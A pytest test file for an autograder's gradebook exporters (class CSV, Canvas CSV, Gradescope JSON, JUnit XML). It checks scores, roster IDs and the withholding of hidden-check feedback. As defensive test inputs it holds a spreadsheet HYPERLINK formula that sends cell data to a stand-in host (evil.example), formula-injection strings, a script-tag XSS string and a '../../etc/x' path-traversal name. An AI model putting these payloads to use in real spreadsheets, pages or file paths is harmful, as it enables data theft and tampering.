"""Gradebook exports: class CSV, Canvas import CSV, Gradescope results.json, JUnit XML."""

from __future__ import annotations

import copy
import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from graders.batch.discover import read_roster
from graders.batch.entry import DUPLICATE, ERROR, GRADED, INVALID, MISSING, Entry
from graders.batch.exports import (
    HIDDEN_FAILURE,
    canvas_csv,
    class_csv,
    gradescope_results,
    safe_name,
    write_gradescope,
)
from graders.render.junit import junit_xml
from graders.spec import load_spec
from graders.verdict import Report
from tests.conftest import ONE_WRONG

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
SPEC = load_spec("selfcheck")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SECRET = "SECRET-hidden-counterexample-z=[2739.2337]"
HOSTILE = "bad \x00\x1b<script>alert(1)</script>&amp; \ud800 end"
# As a reader sees it: NUL and the lone surrogate replaced, ESC < (a terminal command) removed.
INERT = "bad \ufffdscript>alert(1)</script>&amp; \ufffd end"


def load(name: str) -> dict:
    return json.loads((FIXTURES / name).read_text())


@pytest.fixture(scope="module")
def reference() -> dict:
    return load("report_reference.json")


@pytest.fixture(scope="module")
def template() -> dict:
    return load("report_template.json")


def invalid_report(reference: dict) -> dict:
    """What batch grading stores for an unreadable submission: every check failed, score 0."""
    report = copy.deepcopy(reference)
    for question in report["questions"]:
        question.update(score=0.0, passed=False)
        for check in question["checks"]:
            check.update(status="error", message="the submission could not be read")
    report.update(score=0.0, passed=False, submission="submissions/s03.py")
    return report


def one_wrong(reference: dict) -> dict:
    """The reference with Q3's hidden check failing on a secret counterexample: 11/12."""
    report = copy.deepcopy(reference)
    q3 = next(q for q in report["questions"] if q["id"] == "q3")
    hidden = next(c for c in q3["checks"] if c["visibility"] == "hidden")
    hidden.update(
        status="failed",
        message=f"softmax disagrees with the reference ({SECRET})",
        counterexample=SECRET,
        hint=f"hint that gives away {SECRET}",
    )
    q3.update(score=0.0, passed=False)
    report.update(score=11.0, passed=True)
    return report


@pytest.fixture(scope="module")
def entries(reference: dict, template: dict) -> list[Entry]:
    return [
        Entry("s05", "selfcheck", DUPLICATE, detail="two submissions claimed s05"),
        Entry("s01", "selfcheck", GRADED, report=reference),
        Entry("s04", "selfcheck", MISSING, detail="nothing submitted"),
        Entry("s02", "selfcheck", GRADED, report=template),
        Entry(
            "s03",
            "selfcheck",
            INVALID,
            detail="selfcheck.py is not valid Python (line 3)",
            report=invalid_report(reference),
        ),
        Entry("s06", "selfcheck", GRADED, report=one_wrong(reference)),
    ]


def results_of(report: dict, note: str = "", *, figures: bool = False) -> dict:
    """Gradescope's results.json for a stored report dict."""
    return gradescope_results(Report.from_dict(report), note=note, figures=figures)


def junit_of(reports: list[tuple[str, dict]]) -> str:
    """JUnit XML for stored report dicts."""
    return junit_xml([(student, Report.from_dict(report)) for student, report in reports])


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# class CSV


def test_class_csv_has_a_row_per_student_sorted_with_totals(entries: list[Entry]) -> None:
    table = rows(class_csv(entries, SPEC))
    assert [r["student"] for r in table] == ["s01", "s02", "s03", "s04", "s05", "s06"]
    by_student = {r["student"]: r for r in table}
    assert by_student["s01"]["total"] == "12"
    assert by_student["s01"]["passed"] == "yes"
    assert by_student["s02"]["total"] == "0"
    assert by_student["s02"]["passed"] == "no"
    assert by_student["s06"]["total"] == "11"
    assert by_student["s06"]["q3 softmax"] == "0"
    assert by_student["s06"]["q2 relu"] == "1"
    assert all(r["max_score"] == "12" for r in table)
    assert by_student["s03"]["status"] == INVALID
    assert (
        by_student["s03"]["detail"]
        == "could not be read: selfcheck.py is not valid Python (line 3)"
    )
    assert by_student["s03"]["passed"] == "no"


def test_class_csv_per_question_totals_add_up(entries: list[Entry]) -> None:
    questions = [f"{q.id} {q.names[0]}" for q in SPEC.questions]
    for row in rows(class_csv(entries, SPEC)):
        if row["total"]:
            assert sum(float(row[q]) for q in questions) == pytest.approx(float(row["total"]))


def test_class_csv_leaves_cells_empty_without_a_report(entries: list[Entry]) -> None:
    by_student = {r["student"]: r for r in rows(class_csv(entries, SPEC))}
    for student in ("s04", "s05"):
        row = by_student[student]
        assert row["total"] == ""
        assert all(row[f"{q.id} {q.names[0]}"] == "" for q in SPEC.questions)
        assert row["passed"] == "no"
    assert by_student["s05"]["status"] == DUPLICATE
    assert by_student["s05"]["detail"] == "duplicate: two submissions claimed s05"
    assert by_student["s04"]["detail"] == "missing: nothing submitted"


def test_class_csv_columns_follow_the_spec(entries: list[Entry]) -> None:
    header = next(csv.reader(io.StringIO(class_csv(entries, SPEC))))
    assert header[:2] == ["student", "status"]
    assert header[2:14] == [f"{q.id} {q.names[0]}" for q in SPEC.questions]
    assert header[2:5] == ["q1 Q1_ANSWER", "q2 relu", "q3 softmax"]
    assert header[-4:] == ["total", "max_score", "passed", "detail"]
    assert len(header) == 2 + len(SPEC.questions) + 4


def test_class_csv_neutralises_formulas(reference: dict) -> None:
    hostile = [Entry(FORMULA, "selfcheck", INVALID, detail="@SUM(1+1)", report=reference)]
    row = rows(class_csv(hostile, SPEC))[0]
    assert row["student"] == f"'{FORMULA}"
    assert row["detail"] == "could not be read: @SUM(1+1)"  # never a cell's first character


def test_class_csv_round_trips_awkward_text(reference: dict) -> None:
    detail = 'line one\r\nline "two", with commas\rand a CR'
    awkward = [Entry("s,1", "selfcheck", INVALID, detail=detail, report=reference)]
    text = class_csv(awkward, SPEC)
    parsed = rows(text)
    assert len(parsed) == 1
    assert parsed[0]["student"] == "s,1"
    assert parsed[0]["detail"] == f"could not be read: {detail}"


def test_class_csv_refuses_entries_of_another_assignment(reference: dict) -> None:
    other = [Entry("s01", "digits", GRADED, report=reference)]
    with pytest.raises(ValueError, match="digits"):
        class_csv(other, SPEC)


# Canvas CSV


def test_canvas_csv_header_and_points_possible_row(entries: list[Entry]) -> None:
    lines = list(csv.reader(io.StringIO(canvas_csv(entries, SPEC))))
    assert lines[0] == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        "Deep Learning Foundations: self-check (selfcheck)",
    ]
    assert lines[1] == ["Points Possible", "", "", "", "", "12"]
    assert len(lines) == 2 + len(entries)


def test_canvas_csv_scores_and_empty_cells(entries: list[Entry]) -> None:
    lines = list(csv.reader(io.StringIO(canvas_csv(entries, SPEC))))[2:]
    by_student = {line[2]: line for line in lines}
    assert [line[2] for line in lines] == sorted(by_student)
    for student, line in by_student.items():
        assert line[0] == student  # recognisable on Canvas's "unknown students" list
        assert line[1] == ""  # the Canvas user id, which we do not know
        assert line[3] == student
        assert line[4] == ""
    assert by_student["s01"][5] == "12"
    assert by_student["s02"][5] == "0"
    assert by_student["s03"][5] == "0"  # invalid: the report's 0 stands
    assert by_student["s06"][5] == "11"
    assert by_student["s04"][5] == ""  # missing: an instructor decides
    assert by_student["s05"][5] == ""  # duplicate: an instructor decides


@pytest.mark.parametrize("student", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_canvas_csv_neutralises_formula_injection(reference: dict, student: str) -> None:
    hostile = [Entry(student, "selfcheck", GRADED, report=reference)]
    text = canvas_csv(hostile, SPEC)
    row = list(csv.reader(io.StringIO(text)))[2]
    assert row[0] == row[2] == row[3] == f"'{student}"
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row[5] == "12"


def test_canvas_csv_assignment_column(entries: list[Entry]) -> None:
    def header(column: str | None) -> str:
        return next(csv.reader(io.StringIO(canvas_csv(entries, SPEC, column))))[-1]

    assert header("48213") == "Deep Learning Foundations: self-check (48213)"
    assert header("Self-check (48213)") == "Self-check (48213)"
    with pytest.raises(ValueError, match="Final Score"):
        canvas_csv(entries, SPEC, "Self-check Final Score")


CANVAS_EXPORT = FIXTURES / "canvas_gradebook_export.csv"


def canvas_reads(text: str) -> tuple[list[str], dict[str, dict[str, str]]]:
    """What Canvas's GradebookImporter takes from a CSV (canvas-lms gradebook_importer.rb):
    the header must be Student, ID, [SIS User ID,] SIS Login ID, Section; the row whose first
    cell matches "Points Possible" is skipped; the total columns are dropped. Returns the
    assignment columns and, per row, the identity cells Canvas matches on and the scores."""
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    assert header[0] == "Student"
    assert header[1] == "ID"
    assert header[2:4] == ["SIS User ID", "SIS Login ID"]
    assert header[4] == "Section"
    totals = ("Current Score", "Current Points", "Current Grade", "Final Score", "Final Points")
    assignments = [h for h in header[5:] if not any(t in h for t in totals)]
    students = {}
    for row in rows[1:]:
        if "Points Possible" in row[0]:
            continue
        cells = dict(zip(header, row, strict=True))
        students[row[0]] = {k: cells[k] for k in ("ID", "SIS User ID", "SIS Login ID", "Section")}
        students[row[0]].update({a: cells[a] for a in assignments})
    return assignments, students


def test_canvas_csv_matches_a_canvas_gradebook_exports_layout(entries: list[Entry]) -> None:
    exported = list(csv.reader(io.StringIO(CANVAS_EXPORT.read_text(encoding="utf-8"))))
    ours = list(csv.reader(io.StringIO(canvas_csv(entries, SPEC, "48213"))))
    assert ours[0][:5] == exported[0][:5]  # Student, ID, SIS User ID, SIS Login ID, Section
    assert ours[0][5] == exported[0][5]  # "<title> (<Canvas assignment id>)"
    assert ours[1][0] == exported[1][0].strip() == "Points Possible"
    assert float(ours[1][5]) == float(exported[1][5])
    assignments, students = canvas_reads(canvas_csv(entries, SPEC, "48213"))
    assert assignments == ["Deep Learning Foundations: self-check (48213)"]
    assert students["s01"][assignments[0]] == "12"


def test_canvas_ids_come_from_the_roster(tmp_path: Path, entries: list[Entry]) -> None:
    roster_file = tmp_path / "roster.csv"
    roster_file.write_text(
        "student,submission,ID,SIS User ID,SIS Login ID,Section\n"
        "s01,ada-work,5001,U0001,ada@uni.example,DL101 Section A\n"
        "s02,,5002,,alan@uni.example,DL101 Section B\n"
        "s07,,5007,U0007,grace@uni.example,DL101 Section A\n"
    )
    roster = read_roster(roster_file)
    assert roster.submissions["ada-work"] == "s01"
    assert roster.canvas["s02"] == {
        "ID": "5002",
        "SIS User ID": "",
        "SIS Login ID": "alan@uni.example",
        "Section": "DL101 Section B",
    }
    _, students = canvas_reads(canvas_csv(entries, SPEC, "48213", roster))
    column = "Deep Learning Foundations: self-check (48213)"
    assert students["s01"] == {
        "ID": "5001",
        "SIS User ID": "U0001",
        "SIS Login ID": "ada@uni.example",
        "Section": "DL101 Section A",
        column: "12",
    }
    assert students["s02"]["SIS User ID"] == ""  # the roster's, not the student id
    assert students["s07"] == {**students["s07"], "ID": "5007", column: ""}  # no submission
    # A student the roster says nothing about keeps the student id as SIS ids.
    assert students["s06"] == {
        "ID": "",
        "SIS User ID": "s06",
        "SIS Login ID": "s06",
        "Section": "",
        column: "11",
    }


def test_a_canvas_export_reads_as_a_roster(entries: list[Entry], reference: dict) -> None:
    roster = read_roster(CANVAS_EXPORT)
    assert sorted(roster.students) == ["Lovelace, Ada", "Student, Test", "Turing, Alan"]
    assert roster.canvas["Lovelace, Ada"]["ID"] == "5001"
    graded = [Entry("Lovelace, Ada", "selfcheck", GRADED, report=reference)]
    _, students = canvas_reads(canvas_csv(graded, SPEC, "48213", roster))
    exported = canvas_reads(CANVAS_EXPORT.read_text(encoding="utf-8"))[1]
    for name in ("Lovelace, Ada", "Turing, Alan"):
        for key in ("ID", "SIS User ID", "SIS Login ID", "Section"):
            assert students[name][key] == exported[name][key]
    column = "Deep Learning Foundations: self-check (48213)"
    assert students["Lovelace, Ada"][column] == "12"
    assert students["Turing, Alan"][column] == ""


def test_canvas_never_turns_an_error_into_a_zero(reference: dict) -> None:
    faulted = copy.deepcopy(reference)
    faulted.update(graded=False, fault="the disk is full")
    rows = [
        Entry("e1", "selfcheck", ERROR, detail="the sandbox could not start"),
        Entry("e2", "selfcheck", GRADED, report=faulted),  # a hand-edited gradebook
        Entry("e3", "selfcheck", MISSING),
        Entry("e4", "selfcheck", DUPLICATE),
    ]
    _, students = canvas_reads(canvas_csv(rows, SPEC, "48213"))
    assert {
        name: cells["Deep Learning Foundations: self-check (48213)"]
        for name, cells in students.items()
    } == {
        "e1": "",
        "e2": "",
        "e3": "",
        "e4": "",
    }


def test_canvas_ids_from_a_roster_are_formula_safe(tmp_path: Path, reference: dict) -> None:
    roster_file = tmp_path / "roster.csv"
    roster_file.write_text(
        f"student,ID,SIS User ID,SIS Login ID,Section\ns01,=1+1,@SUM(A1),-2+3,{FORMULA!r}\n"
    )
    text = canvas_csv(
        [Entry("s01", "selfcheck", GRADED, report=reference)], SPEC, None, read_roster(roster_file)
    )
    row = list(csv.reader(io.StringIO(text)))[2]
    assert row[1:4] == ["'=1+1", "'@SUM(A1)", "'-2+3"]
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    with pytest.raises(ValueError, match="Section"):
        canvas_csv(entries, SPEC, "Section")


# Gradescope results.json


@pytest.fixture(scope="module")
def validator():
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads((FIXTURES / "gradescope_results.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema)


@pytest.mark.parametrize("which", ["reference", "template", "invalid", "one_wrong"])
def test_gradescope_results_validate(
    validator, reference: dict, template: dict, which: str
) -> None:
    report = {
        "reference": reference,
        "template": template,
        "invalid": invalid_report(reference),
        "one_wrong": one_wrong(reference),
    }[which]
    results = results_of(report)
    errors = [error.message for error in validator.iter_errors(results)]
    assert errors == []
    json.dumps(results)  # JSON-ready
    assert len(results["tests"]) == len(report["questions"])
    assert results["score"] == pytest.approx(report["score"])
    assert results["score"] == pytest.approx(sum(t["score"] for t in results["tests"]))
    assert results["execution_time"] == pytest.approx(report["seconds"])
    assert results["stdout_visibility"] == "hidden"
    for test, question in zip(results["tests"], report["questions"], strict=True):
        assert test["score"] == question["score"]
        assert test["max_score"] == question["max_score"]
        assert test["status"] == ("passed" if question["passed"] else "failed")
        assert test["number"] == str(question["number"])
        assert test["name"] == f"Q{question['number']} {question['title']}"


def test_gradescope_schema_rejects_a_wrong_document(validator) -> None:
    assert not validator.is_valid({"tests": [{"name": "no score anywhere"}]})
    assert not validator.is_valid({"score": 1, "tests": [{"score": 1, "status": "ok"}]})
    assert not validator.is_valid({"score": 1, "visibility": "students"})


def test_gradescope_summary_withholds_the_total_while_checks_are_hidden(
    reference: dict, template: dict
) -> None:
    passed = results_of(reference)["output"]
    assert "your score appears when grades are published" in passed
    assert "12 / 12" not in passed
    assert "Q3 Fix softmax so it is numerically stable: public checks passed (3)." in passed
    assert "isolation: process" in passed
    failed = results_of(template, note="late: graded from the last copy")
    assert failed["output"].startswith("late: graded from the last copy\n")
    assert "0 / 12" not in failed["output"]
    assert "Q3 Fix softmax so it is numerically stable:\n  " in failed["output"]
    assert "Hint: np.exp overflows" in failed["output"]  # the public feedback, at once


def test_gradescope_summary_states_the_total_when_nothing_is_hidden(reference: dict) -> None:
    report = copy.deepcopy(reference)
    for question in report["questions"]:
        for check in question["checks"]:
            check["visibility"] = "public"
    output = results_of(report)["output"]
    assert "12 / 12, passed (pass mark 9)" in output
    assert "Ready to move on" in output


def test_gradescope_hides_hidden_check_details(reference: dict, template: dict) -> None:
    results = results_of(one_wrong(reference))
    q3 = next(t for t in results["tests"] if t["number"] == "3")
    assert q3["status"] == "failed"
    assert HIDDEN_FAILURE.capitalize() in q3["output"]
    assert SECRET not in json.dumps(results)
    assert "disagrees with the reference" not in q3["output"]
    # the template: Q3 fails a public check (shown) and a hidden one (withheld)
    q3 = next(t for t in results_of(template)["tests"] if t["number"] == "3")
    assert "softmax stays finite for logits as large as 1e4" in q3["output"]
    assert q3["output"].count("z = [1000., 1001., 1002.]") == 1  # in the message, said once
    assert "Counterexample:" not in q3["output"]
    assert "Hint: np.exp overflows" in q3["output"]
    assert HIDDEN_FAILURE.capitalize() in q3["output"]
    assert "z = [2739.2337]" not in q3["output"]
    assert "contains nan at index" not in q3["output"]


def test_gradescope_counts_hidden_failures_without_details(template: dict) -> None:
    q2 = next(t for t in results_of(template)["tests"] if t["number"] == "2")
    assert "2 hidden checks failed (their details are not shown)." in q2["output"]
    assert q2["output"].count("relu is not written yet") == 1  # the public check only


def test_gradescope_visibility_follows_the_checks(reference: dict) -> None:
    report = copy.deepcopy(reference)
    for check in report["questions"][0]["checks"]:
        check["visibility"] = "public"
    tests = results_of(report)["tests"]
    assert tests[0]["visibility"] == "visible"
    assert {t["visibility"] for t in tests[1:]} == {"after_published"}


def test_gradescope_score_never_exceeds_the_maximum(reference: dict) -> None:
    report = copy.deepcopy(reference)
    report["questions"][0]["score"] = 5.0  # a corrupted or hand-edited report
    report["questions"][1]["score"] = -3.0
    results = results_of(report)
    assert results["tests"][0]["score"] == 1.0
    assert results["tests"][1]["score"] == 0.0
    assert all(0 <= t["score"] <= t["max_score"] for t in results["tests"])
    assert results["score"] <= sum(t["max_score"] for t in results["tests"])
    assert results["score"] == ONE_WRONG


def test_write_gradescope_writes_graded_and_invalid_only(
    tmp_path: Path, entries: list[Entry], reference: dict, validator
) -> None:
    hostile = Entry("../../etc/x", "selfcheck", GRADED, report=reference)
    written = write_gradescope([*entries, hostile], tmp_path)
    names = sorted(path.parent.name for path in written)
    assert names[1:] == ["s01", "s02", "s03", "s06"]
    assert names[0].startswith("_.._etc_x-")
    for path in written:
        assert path.name == "results.json"
        assert path.resolve().is_relative_to(tmp_path.resolve())
        assert validator.is_valid(json.loads(path.read_text()))
    invalid = json.loads((tmp_path / "s03" / "results.json").read_text())
    assert invalid["output"].startswith("selfcheck.py is not valid Python (line 3)")
    assert invalid["score"] == 0
    assert not (tmp_path / "s04").exists()
    assert not (tmp_path / "s05").exists()


def test_safe_name() -> None:
    assert safe_name("s01") == "s01"
    assert safe_name("jane.doe-2") == "jane.doe-2"
    assert safe_name("a/b") != safe_name("a_b")
    assert safe_name("a/b") != safe_name("a\\b")
    for student in ("..", ".", ".hidden", "a/../../b", "x\x00y", "", "é"):
        name = safe_name(student)
        assert name not in ("", ".", "..")
        assert not name.startswith(".")
        assert "/" not in name
        assert "\x00" not in name


# JUnit XML


def expected_counts(report: dict) -> tuple[int, int, int]:
    checks = [c for q in report["questions"] for c in q["checks"]]
    wrong = [c["status"] == "failed" and c.get("cause", "wrong") == "wrong" for c in checks]
    failures = sum(wrong)
    errors = sum(c["status"] != "passed" for c in checks) - failures
    return len(checks), failures, errors


def test_junit_counts_match_the_reports(reference: dict, template: dict) -> None:
    reports = [("s01", reference), ("s02", template), ("s03", invalid_report(reference))]
    root = ET.fromstring(junit_of(reports))
    assert root.tag == "testsuites"
    suites = root.findall("testsuite")
    assert [s.get("name") for s in suites] == ["s01", "s02", "s03"]
    totals = [0, 0, 0]
    for suite, (_, report) in zip(suites, reports, strict=True):
        tests, failures, errors = expected_counts(report)
        cases = suite.findall("testcase")
        assert (int(suite.get("tests")), len(cases)) == (tests, tests)
        assert int(suite.get("failures")) == failures == len(suite.findall("testcase/failure"))
        assert int(suite.get("errors")) == errors == len(suite.findall("testcase/error"))
        assert suite.get("skipped") == "0"
        assert float(suite.get("time")) == pytest.approx(report["seconds"], abs=1e-3)
        totals = [a + b for a, b in zip(totals, (tests, failures, errors), strict=True)]
    assert [int(root.get(k)) for k in ("tests", "failures", "errors")] == totals
    template_counts = expected_counts(template)
    assert template_counts[1] > 0
    assert template_counts[2] > 0


def test_junit_testcases_name_the_check(template: dict) -> None:
    suite = ET.fromstring(junit_of([("s02", template)])).find("testsuite")
    case = next(
        c for c in suite.iter("testcase") if c.get("name").startswith("check_softmax_large")
    )
    assert case.get("classname") == "selfcheck.q3"
    assert case.get("name") == (
        "check_softmax_large_inputs_finite: softmax stays finite for logits as large as 1e4 "
        "(no overflow)"
    )
    failure = case.find("failure")
    assert failure.get("message").startswith("softmax(z) for z = [1000., 1001., 1002.]")
    assert failure.text.count("z = [1000., 1001., 1002.]") == 1  # in the message, said once
    assert "Hint: np.exp overflows" in failure.text
    error = next(c for c in suite.iter("testcase") if c.find("error") is not None).find("error")
    assert error.get("type") == "not_written"
    assert "not written yet" in error.get("message")
    properties = {p.get("name"): p.get("value") for p in suite.iter("property")}
    assert properties["score"] == "0"
    assert properties["passed"] == "false"


def test_junit_stays_valid_xml_with_hostile_text(template: dict) -> None:
    report = copy.deepcopy(template)
    check = report["questions"][2]["checks"][2]
    check.update(message=HOSTILE, counterexample=HOSTILE, hint=HOSTILE, title=HOSTILE)
    report["questions"][3]["checks"][0].update(status="failed", cause="timeout", message=HOSTILE)
    text = junit_of([(f"student {HOSTILE}", report)])
    root = ET.fromstring(text)  # would raise on NUL, ESC or a lone surrogate
    text.encode("utf-8")
    for forbidden in ("\x00", "\x1b", "\ud800"):
        assert forbidden not in text
    assert "<script>" not in text
    suite = root.find("testsuite")
    assert suite.get("name") == f"student {INERT}"
    failure = next(c for c in suite.iter("failure") if "alert" in c.get("message"))
    assert failure.get("message") == INERT
    assert INERT in failure.text
    timeouts = [e for e in suite.iter("error") if e.get("type") == "timeout"]
    assert len(timeouts) == 1
    assert int(suite.get("errors")) == expected_counts(report)[2]


def test_junit_of_nothing_is_an_empty_testsuites() -> None:
    root = ET.fromstring(junit_xml([]))
    assert root.tag == "testsuites"
    assert root.get("tests") == "0"
    assert list(root) == []


# Gradescope: leaderboard and pictures for the project tracks


def test_gradescope_leaderboard_carries_the_test_accuracy(moons_report, validator) -> None:
    report = moons_report.to_dict()
    results = results_of(report)
    assert [e.message for e in validator.iter_errors(results)] == []
    accuracy = report["metrics"]["accuracy"]
    assert results["leaderboard"] == [
        {"name": "Test accuracy", "value": round(accuracy, 4), "order": "desc"},
        {
            "name": "Training CPU seconds",
            "value": round(report["metrics"]["training_cpu_seconds"], 2),
            "order": "asc",
        },
    ]
    assert f"Test accuracy {accuracy:.2%} (threshold 92.0%)" in results["output"]
    assert results["output_format"] == "text"  # pictures only when asked for


def test_gradescope_shows_the_projects_pictures_as_html(moons_report, validator) -> None:
    report = moons_report.to_dict()
    report["title"] = "Moons <script>alert(1)</script> & co"
    results = results_of(report, figures=True)
    assert [e.message for e in validator.iter_errors(results)] == []
    assert results["output_format"] == "html"
    output = results["output"]
    assert output.startswith("<pre>Moons &lt;script&gt;alert(1)&lt;/script&gt; &amp; co: 1 / 1")
    assert "<script>" not in output
    for caption in ("Training loss", "Confusion matrix", "Decision boundary"):
        assert f'<p><strong>{caption}</strong><br><img src="data:image/png;base64,' in output
    assert output.count("<img ") == 3
    assert 'alt="Confusion matrix: rows are the true labels' in output


def test_gradescope_shows_no_leaderboard_or_picture_that_a_hidden_check_measured(
    moons_report, reference: dict
) -> None:
    report = moons_report.to_dict()
    report["questions"][0]["checks"][0]["visibility"] = "hidden"
    results = results_of(report, figures=True)
    assert "leaderboard" not in results
    assert results["output_format"] == "text"
    assert "Test accuracy 9" not in results["output"]  # the measured accuracy is withheld
    plain = results_of(reference, figures=True)  # no accuracy, hidden checks
    assert "leaderboard" not in plain
    assert plain["output_format"] == "text"


@pytest.mark.parametrize("accuracy", [float("nan"), float("inf"), "0.9", True, None])
def test_gradescope_leaderboard_needs_a_finite_accuracy(moons_report, accuracy) -> None:
    report = moons_report.to_dict()
    report["metrics"] = {**report["metrics"], "accuracy": accuracy}
    results = results_of(report)
    assert "leaderboard" not in results
    assert "Test accuracy " not in results["output"]


def test_cli_exports_canvas_with_the_rosters_ids(tmp_path: Path, reference: dict, capsys) -> None:
    from graders.batch.gradebook import Gradebook
    from graders.cli import main

    db = tmp_path / "dlgrade.db"
    with Gradebook(db) as book:
        book.record(Entry("s01", "selfcheck", GRADED, sha256="a" * 64, report=reference))
    roster = tmp_path / "roster.csv"
    roster.write_text("student,ID,SIS User ID,SIS Login ID,Section\ns01,5001,U1,ada,A\n")
    out = tmp_path / "canvas.csv"
    args = ["export", "-a", "selfcheck", "--db", str(db), "-f", "canvas", "-o", str(out)]
    assert main([*args, "--roster", str(roster), "--canvas-assignment", "48213"]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[0][5] == "Deep Learning Foundations: self-check (48213)"
    assert rows[2] == ["s01", "5001", "U1", "ada", "A", "12"]
    csv_args = ["export", "-a", "selfcheck", "--db", str(db), "-o", str(tmp_path / "c.csv")]
    assert main([*csv_args, "--roster", str(roster)]) == 2
    assert "for --format canvas only" in capsys.readouterr().err


def test_class_csv_detail_says_why_a_student_scored_zero_or_has_no_score(
    zeros: list[Entry],
) -> None:
    from tests.graders.batch.conftest import why

    table = {row["student"]: row for row in rows(class_csv(zeros, SPEC))}
    assert {student: row["detail"] for student, row in table.items()} == {
        entry.student: why(entry) for entry in zeros
    }
    assert table["loops"]["total"] == "0"  # its file did not load: a 0, and the reason
    assert table["fault"]["status"] == "error"
    assert table["fault"]["total"] == ""  # a fault of ours is no score, not a 0
